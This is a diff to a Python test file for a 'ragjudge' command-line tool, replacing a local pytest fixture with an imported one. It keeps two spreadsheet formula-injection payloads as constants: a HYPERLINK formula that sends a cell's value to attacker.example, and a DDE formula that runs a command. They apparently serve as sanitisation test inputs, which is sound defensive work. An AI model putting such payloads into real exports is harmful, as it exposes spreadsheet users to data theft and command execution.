@@ -14,17 +14,14 @@ import io
 import pytest
 from projectkit import make_small_project
 
-from ragjudge.cli import common, main
+from ragjudge.cli import main
 from ragjudge.services.labels.events import record_label
 
 LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"refund")'
 CMD = "+cmd|' /C calc'!A0"
 
 
-@pytest.fixture(autouse=True)
-def _no_project(monkeypatch):
-    monkeypatch.setitem(common.CLI_STATE, "db", None)
-    monkeypatch.delenv("RAGJUDGE_DB", raising=False)
+from clikit import no_project  # noqa: E402, F401 - autouse: no project named by the environment
 
 
 @pytest.fixture()
